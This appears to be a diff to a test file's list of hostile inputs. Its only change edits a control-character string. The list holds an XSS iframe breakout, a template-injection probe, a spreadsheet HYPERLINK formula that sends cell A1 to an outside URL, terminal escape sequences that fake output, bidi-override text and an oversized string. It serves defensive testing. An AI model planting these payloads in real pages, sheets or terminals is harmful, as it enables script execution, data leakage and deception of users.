@@ -8,7 +8,7 @@ HOSTILE = [
     "</td></table></svg></script><iframe src=javascript:alert(1)>",
     "{{ 7 * 6 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
     '=HYPERLINK("http://example.org/?" & A1, "look")',
-    "\x00\x01\x07\x08\x7f\x9b",
+    "bell \x00\x01\x07\x08\x7f\x9b",
     "red \x1b[31malert\x1b]0;owned\x07 \x1b[2J\r\nfaked line",
     "turned \u202earound\u2066 and \u2028 parted \x85 lines",
     "long " + "word " * 2_000_000,
